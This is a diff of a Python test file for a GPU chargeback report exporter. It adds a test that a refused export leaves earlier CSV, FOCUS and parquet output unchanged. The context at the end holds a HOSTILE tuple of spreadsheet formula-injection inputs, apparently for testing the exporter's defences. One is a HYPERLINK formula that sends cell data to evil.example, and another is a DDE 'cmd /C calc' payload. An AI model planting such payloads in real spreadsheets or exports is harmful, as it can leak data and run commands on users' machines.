@@ -180,6 +180,31 @@ def test_focus_without_the_cost_model_is_refused(tmp_path: Path,
     assert not (tmp_path / "o").exists() or not any((tmp_path / "o").iterdir())
 
 
+def test_a_refused_export_leaves_the_previous_files_as_they_were(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The FOCUS files are streamed into their temporary files (a month of 80,000 GPUs is
+    ~0.9 GB of CSV): an export refused while it is being written leaves the report written
+    before byte for byte, and no temporary file."""
+    db, cm = _db(tmp_path, "separate")
+    out = tmp_path / "out"
+    assert report_main(["--month", "2026-10", "--db", str(db), "--cost-model", str(cm),
+                        "--out", str(out), "--format", "csv,focus"]) == 0
+    before = {p.name: p.read_bytes() for p in out.iterdir()}
+    assert sorted(before) == ["chargeback-2026-10.csv", "chargeback-2026-10.focus.csv",
+                              "chargeback-2026-10.focus.parquet"]
+    con = connect(db)
+    con.execute("DELETE FROM cost_models")
+    con.execute("UPDATE charges SET cost = cost + 1")  # a CSV that would differ
+    con.close()
+    capsys.readouterr()
+    code = report_main(["--month", "2026-10", "--db", str(db), "--out", str(out),
+                        "--format", "csv,focus"])
+    assert code == 2
+    err = capsys.readouterr().err
+    assert "--format focus" in err and "Traceback" not in err
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
+
+
 HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "@SUM(1,1)", "-2+3", "\tx")
 
